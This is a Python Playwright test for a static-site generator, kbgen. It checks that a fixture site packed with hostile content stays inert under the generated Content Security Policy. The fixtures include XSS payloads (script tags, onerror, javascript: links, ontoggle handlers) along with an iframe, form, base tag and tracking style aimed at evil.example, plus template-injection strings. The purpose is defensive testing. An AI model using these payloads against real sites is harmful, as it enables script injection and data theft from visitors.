"""A hostile fixture site that passes `kbgen check` stays inert in Chromium, served with its own
_headers (the CSP kbgen computed) and netlify.toml's headers: no dialog, no CSP violation, no
request to another origin, and Material's configuration is Material's."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.browser.test_headers import serve_like_netlify
from tests.conftest import MKDOCS_YML, entry, run_kbgen

pytestmark = pytest.mark.browser

PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(2)>"
HOSTILE_BODY = f"""\
{PAYLOAD}

<div id="__config">{{"base": "https://evil.example", "search": "https://evil.example/x.js"}}</div>
<p class="kb-contact-page md-dialog" id="feedback">Looks like kbgen's own.</p>
<a href="javascript:alert(3)">click</a> <a href="#" onclick="alert(4)">me</a>
<svg><script>alert(5)</script></svg>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><button>Send</button></form>
<base href="https://evil.example/">
<p style="background: url(https://evil.example/track.png)">styled</p>
<details open ontoggle="alert(6)"><summary>More</summary>x</details>

| Left | Right | Centre |
|:-----|------:|:------:|
| a    | 1     | x      |

![diagram](images/ok.svg)

## Steps

1. Fine [link](other.md).
"""
SVG_OK = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect width="4" height="4" fill="#a52"/></svg>'
)
CATALOG = f"""\
- id: kettle
  name: "Kettle {PAYLOAD}"
  summary: "Boils </script><script>alert(7)</script> water."
  url: https://shop.example/kettle
  image: images/ok.svg
  compatible_with: [mug]
- id: mug
  name: Mug
  summary: "Holds tea {{{{ 7*7 }}}} and {{% raw %}}."
  url: https://shop.example/mug
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    config = MKDOCS_YML.format(language="en").replace(
        "  - kbgen\n",
        "  - kbgen:\n      contact:\n        hotline:\n          number: 1-800-FLOWERS\n"
        "        email:\n          address: help@shop.example\n",
    ) + "markdown_extensions:\n  - tables\n  - attr_list\n"
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    files = {
        "content/hostile.md": entry(
            question=json.dumps(f"Is {PAYLOAD} ok?"),
            summary=json.dumps("Yes </script><script>alert(8)</script> it is."),
            body=HOSTILE_BODY,
            keywords=json.dumps([PAYLOAD, "{{ config }}"]),
            products="[kettle]",
            popular="true",
        ),
        "content/other.md": entry(question="Other?", stage="before-purchase", related="[hostile]"),
        "content/products.yml": CATALOG,
        "content/images/ok.svg": SVG_OK,
    }
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    run_kbgen("check", cwd=root, check=True)
    run_kbgen("build", cwd=root, check=True)
    return root / "site"


@pytest.fixture(scope="module")
def hostile_url(hostile_site: Path) -> Iterator[str]:
    yield from serve_like_netlify(hostile_site)


PAGES = [
    ("", "."),
    ("after-delivery/", ".."),
    ("questions/hostile/", "../.."),
    ("questions/other/", "../.."),
    ("products/", ".."),
    ("products/kettle/", "../.."),
    ("contact/", ".."),
    ("search/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", ".."),
    ("404.html", "/"),
]


def test_hostile_content_is_inert_under_the_sites_own_csp(browser: Browser, hostile_url: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    violations: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("request", lambda r: requests.append(r.url))
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => "
        "console.error('Content Security Policy violation: ' + e.violatedDirective + ' ' + e.blockedURI))"
    )
    for path, base in PAGES:
        response = page.goto(hostile_url + path)
        assert response is not None
        assert "script-src 'self' 'sha256-" in response.headers["content-security-policy"]
        page.wait_for_load_state("networkidle")
        # Material's configuration is Material's own: one element, with the page's real base
        configs = page.eval_on_selector_all("[id='__config']", "els => els.map(e => e.tagName)")
        assert configs == ["SCRIPT"], path
        material = json.loads(page.eval_on_selector("#__config", "e => e.textContent"))
        assert material["base"] == base, path
        assert page.locator("[id='feedback']").count() <= 1, path
    page.goto(hostile_url + "questions/hostile/")
    assert page.locator("h1").inner_text() == f"Is {PAYLOAD} ok?"  # shown as text
    assert page.locator(".kb-details table [align=right]").count() >= 1  # alignment kept, no style
    assert page.locator(".kb-details img[src$='ok.svg']").count() == 1
    page.locator(".kb-details a", has_text="click").click()  # the javascript: link was dropped
    page.wait_for_timeout(200)
    assert dialogs == []
    assert violations == []
    origin = hostile_url.rstrip("/")
    assert [u for u in requests if not u.startswith((origin, "data:", "blob:"))] == []
    context.close()


def test_the_policy_holds_only_the_templates_scripts(hostile_site: Path, tmp_path: Path) -> None:
    """The hostile site's script hashes are exactly those of a clean site with the same config."""
    clean = tmp_path / "clean"
    (clean / "content").mkdir(parents=True)
    config = (hostile_site.parent / "mkdocs.yml").read_text(encoding="utf-8")
    (clean / "mkdocs.yml").write_text(config, encoding="utf-8")
    (clean / "content" / "a.md").write_text(entry(), encoding="utf-8")
    (clean / "content" / "b.md").write_text(entry(question="B?", stage="before-purchase"), encoding="utf-8")
    (clean / "content" / "products.yml").write_text(
        "- id: kettle\n  name: Kettle\n  summary: Boils.\n  url: https://shop.example/kettle\n",
        encoding="utf-8",
    )
    run_kbgen("build", cwd=clean, check=True)

    def script_src(site: Path) -> set[str]:
        policy = (site / "_headers").read_text(encoding="utf-8").split("Content-Security-Policy: ")[1]
        directive = next(d for d in policy.splitlines()[0].split("; ") if d.startswith("script-src"))
        return set(directive.split()[1:])

    assert script_src(hostile_site) == script_src(clean / "site")
